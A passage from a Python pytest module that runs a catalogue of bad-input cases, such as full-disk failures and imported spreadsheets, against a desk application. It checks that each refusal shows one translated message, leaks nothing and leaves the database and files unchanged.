        backup_disk_full("copy.sqlite3"),
        Refused(then=no_file("copy.sqlite3")),
    ),
    Case(
        "disk-full-letter-archive",
        "form",
        letter_on_full_disk,
        Refused(error=SiecError, then=no_new_letter_file),
    ),
    Case(
        "disk-full-rights-export",
        "form",
        rights_export_on_full_disk,
        Refused(error=SiecError, then=no_file("export.json")),
    ),
    *IMPORT_CASES,  # redteam MEDIUM-11, LOW-4, LOW-7: hostile spreadsheets
    *READING_CASES,
    *AGENDA_CASES,
    *EVENT_CASES,
]


def test_the_catalogue_is_large_and_covers_every_channel() -> None:
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES)
    assert {c.channel for c in CASES} == {"form", "cli", "file"}
    assert any(isinstance(c.expect, Accepted) for c in CASES)


# -- running a case ----------------------------------------------------------------------
@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_sample(tmp_path_factory.mktemp("sample")).parent


@pytest.fixture
def env(
    sample: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Env]:
    folder = Path(shutil.copytree(sample, tmp_path / "centre"))
    world = Env(folder, capsys, monkeypatch)
    yield world
    world.close()


def _refusal(case: Case, env: Env, language: str) -> str:
    """Run a refused case in *language*; the one line the user is shown."""
    env.lang = language
    i18n.set_language(language)
    expect = case.expect
    assert isinstance(expect, Refused)
    if case.channel != "form":  # a command: (exit code, out, err)
        result = case.action(env)
        assert isinstance(result, tuple), "a command's (exit code, out, err)"
        code, out, err = result
        assert code == expect.exit, err
        assert "Traceback" not in err
        lines = err.strip().splitlines()
        if code == 1:
            assert len(lines) == 1 and lines[0].startswith("siec-desk: "), err
            assert out == ""
        return lines[-1]
    with pytest.raises(expect.error) as caught:
        case.action(env)
    if hasattr(caught.value, "errors"):
        if expect.field is not None:
            assert expect.field in [e.field for e in caught.value.errors]
        return describe_errors(caught.value.errors)
    return str(caught.value)


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=c.marks) for c in CASES])
def test_bad_input(case: Case, env: Env) -> None:
    before = snapshot(env.db)
    if isinstance(case.expect, Refused):
        then = case.expect.then
        message = _refusal(case, env, "fr")
        assert message.strip() and "\n" not in message
        if case.expect.field is not None:
            assert str(FIELDS[case.expect.field]) in message, "the message names the field"
        names = case.expect.names
        if names is not None:
            assert (names(env) if callable(names) else names) in message
        env.close()
        if then is not None:
            then(env)
        english = _refusal(case, env, "en")
        env.close()
        assert message != english, "the French message is translated"
        assert not [leak for leak in LEAKS if leak in message], message
        after = snapshot(env.db)
        assert after == before, lost_or_changed(before, after) or "rows were added"
    else:
        i18n.set_language("fr")
        result = case.action(env)
        case.expect.check(env, result)
        env.close()
        assert not lost_or_changed(before, snapshot(env.db), skip=MAY_CHANGE)
    assert not half_written(env.folder)


if __name__ == "__main__":  # pragma: no cover - list the catalogue
    for c in CASES:
        sys.stdout.write(f"{c.channel:5} {c.id}\n")
